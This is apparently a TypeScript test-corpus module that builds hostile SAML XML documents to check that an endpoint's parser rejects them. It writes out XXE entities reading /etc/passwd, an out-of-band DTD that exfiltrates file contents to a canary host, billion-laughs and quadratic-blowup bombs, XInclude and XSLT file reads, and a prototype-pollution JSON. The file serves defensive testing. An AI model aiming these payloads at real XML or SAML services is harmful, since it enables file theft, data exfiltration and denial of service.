/**
 * The corpus's hostile XML, as documents shaped like the message an endpoint takes (a Response, an
 * AuthnRequest or a LogoutRequest): DTDs and entities (internal, external, parameter, bombs),
 * XInclude and other outbound references, processing instructions, comments and CDATA, nesting
 * 1,000 to 100,000 deep, very many attributes or elements, huge values, namespace tricks,
 * malformed XML, invalid characters and byte encodings, and things that are not XML at all. Entity
 * references sit in the Issuer, which refusal messages quote, so an expansion would show.
 * @see XML 1.0 §2.8 (DTDs), §4 (entities); XInclude 1.0; SAML 2.0 Bindings §3.4.4, §3.5.4
 */
import { createHash } from 'node:crypto';
import { NS } from '#harness/saml';
import { MARK, times, type Doc } from './saml-corpus-support.js';

export type RootKind = 'Response' | 'AuthnRequest' | 'LogoutRequest';

const INSTANT = '2024-01-01T00:00:00Z';
const DSIG = NS.ds;

/** The rest of the message after its Issuer, so that only the hostile part is wrong. */
const AFTER_ISSUER: Readonly<Record<RootKind, string>> = {
  Response: `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>`,
  AuthnRequest: '<samlp:NameIDPolicy AllowCreate="true"/>',
  LogoutRequest: '<saml:NameID>victim@example.com</saml:NameID>',
};

/** A message of `kind` with `issuer` (markup) as its Issuer's content, `inner` after it, `attributes` on the root. */
export function skeleton(
  kind: RootKind,
  issuer = 'https://corpus.test/idp',
  inner = '',
  attributes = '',
): string {
  return (
    `<samlp:${kind} xmlns:samlp="${NS.samlp}" xmlns:saml="${NS.saml}" ID="_corpus1" Version="2.0" ` +
    `IssueInstant="${INSTANT}"${attributes}><saml:Issuer>${issuer}</saml:Issuer>${AFTER_ISSUER[kind]}${inner}` +
    `</samlp:${kind}>`
  );
}

/** Deterministic bytes that are no encoding of anything. */
function noise(length: number): Buffer {
  const out: Buffer[] = [];
  let block = createHash('sha256').update('corpus').digest();
  for (let size = 0; size < length; size += block.length) {
    out.push(block);
    block = createHash('sha256').update(block).digest();
  }
  return Buffer.concat(out).subarray(0, length);
}

const nested = (depth: number, name = 'x'): string => `<${name}>`.repeat(depth) + `</${name}>`.repeat(depth);

function entities(kind: RootKind, canary: string): Doc[] {
  const at = (prolog: string, issuer: string, label: string, inner = '', attributes = ''): Doc => ({
    label,
    xml: `${prolog}${skeleton(kind, issuer, inner, attributes)}`,
  });
  const laughs = (levels: number, fan: number): string =>
    `<!DOCTYPE r [<!ENTITY l0 "${MARK}">` +
    times(levels, (n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(fan)}">`).join('') +
    ']>';
  const internal = `<!DOCTYPE r [<!ENTITY e "${MARK}">]>`;
  return [
    at(internal, '&e;&e;', 'an internal entity'),
    at(`<!doctype r [<!ENTITY e "${MARK}">]>`, '&e;&e;', 'a lower-case doctype'),
    at(`<!DOCTYPE\n\tr\n[\n<!ENTITY e "${MARK}">\n]\n>`, '&e;&e;', 'a DOCTYPE across lines'),
    at(internal, 'x', 'an internal entity in an attribute value', '', ' Destination="&e;&e;"'),
    at(`<!DOCTYPE r [<!ENTITY e "<saml:Issuer>x</saml:Issuer>">]>`, '&e;', 'an entity holding markup'),
    at(
      '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      '&e;',
      'an external entity file:///etc/passwd',
    ),
    at('<!DOCTYPE r [<!ENTITY e SYSTEM "/etc/passwd">]>', '&e;', 'an external entity with a bare path'),
    at(
      '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
      '&e;',
      'an external entity file:///etc/hostname',
    ),
    at(`<!DOCTYPE r [<!ENTITY e SYSTEM "${canary}/entity">]>`, '&e;', 'an external entity over http'),
    at(`<!DOCTYPE r [<!ENTITY e PUBLIC "-//C//E" "${canary}/public">]>`, '&e;', 'a PUBLIC external entity'),
    at(`<!DOCTYPE r SYSTEM "${canary}/external.dtd">`, 'x', 'an external DTD subset'),
    at(`<!DOCTYPE r PUBLIC "-//C//D" "${canary}/public.dtd">`, 'x', 'a PUBLIC external DTD'),
    at(`<!DOCTYPE r [<!ENTITY % p SYSTEM "${canary}/p.dtd"> %p;]>`, '&e;', 'an external parameter entity'),
    at(
      `<!DOCTYPE r [<!ENTITY % p "<!ENTITY e '${MARK}'>"> %p;]>`,
      '&e;&e;',
      'a parameter entity defining one',
    ),
    at(
      `<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % w "<!ENTITY &#x25; x SYSTEM '${canary}/?%f;'>"> %w; %x;]>`,
      'x',
      'an out-of-band exfiltration DTD',
    ),
    at(laughs(10, 10), '&l10;', 'billion laughs (10 levels of 10)'),
    at(laughs(30, 2), '&l30;', 'billion laughs (30 levels of 2)'),
    at(laughs(4, 1_000), '&l4;', 'billion laughs (4 levels of 1,000)'),
    at(`<!DOCTYPE r [<!ENTITY a "${'Qz'.repeat(50_000)}">]>`, '&a;'.repeat(2_000), 'quadratic blowup'),
    at('', '&e;&e;', 'an undeclared entity'),
    at('', '&#0;', 'a character reference to NUL'),
    at('', '&#xD800;', 'a character reference to a surrogate'),
    at('', '&#x110000;', 'a character reference out of range'),
    at(`<!ENTITY e "${MARK}">`, '&e;&e;', 'an ENTITY declaration without DOCTYPE'),
    at('', 'x', 'a DOCTYPE after the root', `</samlp:${kind}><!DOCTYPE r [<!ENTITY e "x">]><samlp:${kind}>`),
    at('<!-- <!DOCTYPE r> -->', 'x', 'a DOCTYPE inside a comment'),
    at('', `<![CDATA[<!DOCTYPE r [<!ENTITY e "${MARK}">]>]]>`, 'a DOCTYPE inside CDATA'),
  ];
}

function references(kind: RootKind, canary: string): Doc[] {
  const xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"';
  const signature = (reference: string, keyInfo = ''): string =>
    `<ds:Signature xmlns:ds="${DSIG}"><ds:SignedInfo>` +
    `<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>` +
    `<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>${reference}` +
    `</ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue>${keyInfo}</ds:Signature>`;
  const ref = (uri: string, transforms = ''): string =>
    `<ds:Reference URI="${uri}"><ds:Transforms>${transforms}</ds:Transforms>` +
    `<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference>`;
  const xslt =
    '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" ' +
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
    `<xsl:copy-of select="document('file:///etc/passwd')"/><xsl:copy-of select="document('${canary}/xslt')"/>` +
    '</xsl:template></xsl:stylesheet></ds:Transform>';
  const doc = (label: string, issuer: string, inner = '', attributes = '', prolog = ''): Doc => ({
    label,
    xml: `${prolog}${skeleton(kind, issuer, inner, attributes)}`,
  });
  return [
    doc('XInclude of /etc/passwd', `<xi:include ${xi} href="file:///etc/passwd" parse="text"/>`),
    doc('XInclude over http', `<xi:include ${xi} href="${canary}/xinclude" parse="xml"/>`),
    doc(
      'XInclude with a fallback',
      `<xi:include ${xi} href="${canary}/x"><xi:fallback>${MARK}</xi:fallback></xi:include>`,
    ),
    doc(
      'xsi:schemaLocation over http',
      'x',
      '',
      ` xmlns:xsi="${NS.xsi}" xsi:schemaLocation="${NS.samlp} ${canary}/schema.xsd"`,
    ),
    doc(
      'xsi:noNamespaceSchemaLocation over http',
      'x',
      '',
      ` xmlns:xsi="${NS.xsi}" xsi:noNamespaceSchemaLocation="${canary}/n.xsd"`,
    ),
    doc('a signature Reference to an http URI', 'x', signature(ref(`${canary}/reference`))),
    doc('a signature Reference to file:///etc/passwd', 'x', signature(ref('file:///etc/passwd'))),
    doc('an XSLT transform reading files', 'x', signature(ref('#_corpus1', xslt))),
    doc(
      'a KeyInfo RetrievalMethod over http',
      'x',
      signature(ref('#_corpus1'), `<ds:KeyInfo><ds:RetrievalMethod URI="${canary}/key"/></ds:KeyInfo>`),
    ),
    doc(
      'an xml-stylesheet processing instruction',
      'x',
      '',
      '',
      `<?xml-stylesheet type="text/xsl" href="${canary}/xsl"?>`,
    ),
    doc('a processing instruction in the Issuer', 'https://corpus.test/<?pi data?>idp'),
    doc('a processing instruction named xml after the start', 'x', '', '', '<!-- c --><?xml version="1.0"?>'),
    doc('a processing instruction without a target', 'x', '<? ?>'),
    doc('comments splitting the Issuer', 'https://corpus<!-- -->.test<!---->/idp'),
    doc(
      'a comment before the XML declaration',
      'x',
      '',
      '',
      '<!-- c --><?xml version="1.0" encoding="UTF-8"?>',
    ),
    doc('a comment with a double hyphen', 'x', '<!-- a -- b -->'),
    doc('an unclosed comment', 'x<!-- never closed'),
    doc('the Issuer as CDATA', '<![CDATA[https://corpus.test/idp]]>'),
    doc('CDATA with a nested end marker', '<![CDATA[a]]>]]><![CDATA[b]]>'),
    doc('an unclosed CDATA section', '<![CDATA[never closed'),
    { label: 'CDATA after the root', xml: `${skeleton(kind)}<![CDATA[x]]>` },
  ];
}

function sizes(kind: RootKind): Doc[] {
  const attributes = (count: number): string => times(count, (n) => ` a${n}="x"`).join('');
  return [
    { label: 'nesting 1,000 deep', xml: skeleton(kind, 'x', nested(1_000)) },
    { label: 'nesting 10,000 deep', xml: skeleton(kind, 'x', nested(10_000)) },
    { label: 'nesting 100,000 deep', xml: skeleton(kind, 'x', nested(100_000)) },
    { label: 'nesting 10,000 deep, unclosed', xml: skeleton(kind, 'x', '<x>'.repeat(10_000)) },
    { label: 'SAML elements nested 1,000 deep', xml: skeleton(kind, 'x', nested(1_000, 'saml:Advice')) },
    { label: 'nesting 49 deep (under the limit)', xml: skeleton(kind, 'x', nested(47)) },
    { label: '20,000 attributes on the root', xml: skeleton(kind, 'x', '', attributes(20_000)) },
    {
      label: '10,000 namespace declarations',
      xml: skeleton(kind, 'x', '', times(10_000, (n) => ` xmlns:p${n}="urn:p:${n}"`).join('')),
    },
    { label: '50,000 empty elements', xml: skeleton(kind, 'x', '<x/>'.repeat(50_000)) },
    { label: '5,000 Issuers', xml: skeleton(kind, 'x', '<saml:Issuer>y</saml:Issuer>'.repeat(5_000)) },
    {
      label: 'a 200 KB attribute value',
      xml: skeleton(kind, 'x', '', ` Destination="${'a'.repeat(200_000)}"`),
    },
    {
      label: 'a 200 KB ID',
      xml: skeleton(kind, 'x').replace('ID="_corpus1"', `ID="_${'a'.repeat(200_000)}"`),
    },
    { label: 'a 200 KB Issuer', xml: skeleton(kind, 'i'.repeat(200_000)) },
    { label: 'a 300 KB text node (over 256 KiB)', xml: skeleton(kind, 'x', `<x>${'t'.repeat(300_000)}</x>`) },
    { label: '40,000 character references', xml: skeleton(kind, '&#x41;'.repeat(40_000)) },
    { label: '30,000 comments', xml: skeleton(kind, 'x', '<!---->'.repeat(30_000)) },
    { label: '30,000 processing instructions', xml: skeleton(kind, 'x', '<?p?>'.repeat(30_000)) },
  ];
}

function namespaces(kind: RootKind): Doc[] {
  const base = skeleton(kind);
  return [
    {
      label: 'samlp bound to another namespace',
      xml: base.replace(`xmlns:samlp="${NS.samlp}"`, 'xmlns:samlp="urn:evil"'),
    },
    { label: 'samlp bound to nothing', xml: base.replace(`xmlns:samlp="${NS.samlp}"`, 'xmlns:samlp=""') },
    { label: 'an unbound prefix', xml: base.replace(` xmlns:samlp="${NS.samlp}"`, '') },
    {
      label: 'the saml prefix redefined on the Issuer',
      xml: base.replace('<saml:Issuer>', '<saml:Issuer xmlns:saml="urn:evil">'),
    },
    {
      label: 'an empty default namespace, unprefixed',
      xml: `<${kind} xmlns="" ID="_c" Version="2.0" IssueInstant="${INSTANT}"><Issuer>x</Issuer></${kind}>`,
    },
    {
      label: 'the protocol as the default namespace, Issuer in none',
      xml: `<${kind} xmlns="${NS.samlp}" ID="_c" Version="2.0" IssueInstant="${INSTANT}"><Issuer xmlns="">x</Issuer></${kind}>`,
    },
    {
      label: 'the xml prefix redefined',
      xml: base.replace('ID="_corpus1"', 'xmlns:xml="urn:evil" ID="_corpus1"'),
    },
    {
      label: 'an xmlns:xmlns declaration',
      xml: base.replace('ID="_corpus1"', 'xmlns:xmlns="urn:evil" ID="_corpus1"'),
    },
    {
      label: 'the same namespace under two prefixes',
      xml: base
        .replace('<saml:Issuer>', `<p:Issuer xmlns:p="${NS.saml}">`)
        .replace('</saml:Issuer>', '</p:Issuer>'),
    },
    {
      label: 'a SAML 1.1 protocol namespace',
      xml: base.replace(NS.samlp, 'urn:oasis:names:tc:SAML:1.0:protocol'),
    },
  ];
}

function malformed(kind: RootKind): Doc[] {
  const base = skeleton(kind);
  const end = `</samlp:${kind}>`;
  const utf16le = Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${base}`, 'utf16le');
  const utf16be = Buffer.from(utf16le).swap16();
  const [head, tail] = [
    base.slice(0, base.indexOf('</saml:Issuer>')),
    base.slice(base.indexOf('</saml:Issuer>')),
  ];
  const badUtf8 = (label: string, raw: number[]): Doc => ({
    label,
    xml: Buffer.concat([Buffer.from(head), Buffer.from(raw), Buffer.from(tail)]),
  });
  return [
    { label: 'mismatched tags', xml: base.replace('</saml:Issuer>', '</saml:Issuers>') },
    { label: 'a stray end tag after the root', xml: `${base}</x>` },
    { label: 'text after the root', xml: `${base}trailing text` },
    { label: 'a second root', xml: `${base}${base}` },
    { label: 'text before the root', xml: `leading text${base}` },
    { label: 'an unclosed root', xml: base.slice(0, -end.length) },
    { label: 'an unclosed tag', xml: base.replace('</saml:Issuer>', '') },
    { label: 'a truncated start tag', xml: base.slice(0, 40) },
    { label: 'an unquoted attribute', xml: base.replace('Version="2.0"', 'Version=2.0') },
    { label: 'a duplicated attribute', xml: base.replace('Version="2.0"', 'Version="2.0" Version="1.0"') },
    { label: 'a < in an attribute value', xml: base.replace('Version="2.0"', 'Version="2<0"') },
    { label: 'a bare &', xml: skeleton(kind, 'a & b') },
    { label: 'U+0001', xml: skeleton(kind, 'a\u0001b') },
    { label: 'U+0000', xml: skeleton(kind, 'a\u0000b') },
    { label: 'U+FFFE', xml: skeleton(kind, 'a\uFFFEb') },
    { label: 'U+001B in an attribute', xml: base.replace('Version="2.0"', 'Version="2.0\u001b"') },
    badUtf8('bad UTF-8 (C3 28)', [0xc3, 0x28]),
    badUtf8('bad UTF-8 (FF FE FD)', [0xff, 0xfe, 0xfd]),
    badUtf8('overlong UTF-8 for / (C0 AF)', [0xc0, 0xaf]),
    badUtf8('a UTF-8 encoded surrogate (ED A0 80)', [0xed, 0xa0, 0x80]),
    badUtf8('truncated UTF-8 (E2 82)', [0xe2, 0x82]),
    { label: 'UTF-16LE with a BOM', xml: Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le]) },
    { label: 'UTF-16BE with a BOM', xml: Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be]) },
    { label: 'UTF-16LE without a BOM', xml: utf16le },
    { label: 'a UTF-32LE BOM', xml: Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(base)]) },
    { label: 'a UTF-8 BOM', xml: `\ufeff${base}` },
    { label: 'a UTF-8 BOM twice', xml: `\ufeff\ufeff${base}` },
    { label: 'declared UTF-16, sent as UTF-8', xml: `<?xml version="1.0" encoding="UTF-16"?>${base}` },
    { label: 'declared EBCDIC', xml: `<?xml version="1.0" encoding="IBM037"?>${base}` },
    { label: 'XML 1.1 with U+0001 as a reference', xml: `<?xml version="1.1"?>${skeleton(kind, 'a&#x1;b')}` },
    { label: 'an XML declaration after whitespace', xml: ` \n<?xml version="1.0"?>${base}` },
    { label: 'an XML declaration only', xml: '<?xml version="1.0"?>' },
    { label: 'empty', xml: '' },
    { label: 'whitespace only', xml: ' \n\t ' },
    { label: 'a comment only', xml: '<!-- nothing -->' },
    { label: 'a lone <', xml: '<' },
    { label: 'NUL bytes between characters', xml: Buffer.from(base, 'utf16le') },
  ];
}

function notXml(): Doc[] {
  return [
    { label: 'JSON', xml: '{"SAMLResponse":{"Issuer":"x"},"__proto__":{"polluted":1}}' },
    { label: 'an HTML page', xml: '<!doctype html><html><body><script>corpus()</script></body></html>' },
    { label: 'plain text', xml: 'hello, this is not a SAML message' },
    { label: 'a PEM certificate', xml: '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n' },
    { label: 'a zip header', xml: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]) },
    { label: '4 KB of noise', xml: noise(4_096) },
    { label: '200 KB of noise', xml: noise(200_000) },
    {
      label: 'a SAML 1.1 Response',
      xml: '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" MajorVersion="1" MinorVersion="1"/>',
    },
    {
      label: 'a SOAP envelope',
      xml: '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>',
    },
  ];
}

/** Every hostile document of `kind`; external references point at `canary`, which must never be fetched. */
export function hostileDocs(kind: RootKind, canary: string): Doc[] {
  return [
    ...entities(kind, canary).map((doc) => ({ ...doc, label: `dtd: ${doc.label}` })),
    ...references(kind, canary).map((doc) => ({ ...doc, label: `markup: ${doc.label}` })),
    ...sizes(kind).map((doc) => ({ ...doc, label: `size: ${doc.label}` })),
    ...namespaces(kind).map((doc) => ({ ...doc, label: `namespace: ${doc.label}` })),
    ...malformed(kind).map((doc) => ({ ...doc, label: `malformed: ${doc.label}` })),
    ...notXml().map((doc) => ({ ...doc, label: `not xml: ${doc.label}` })),
  ];
}
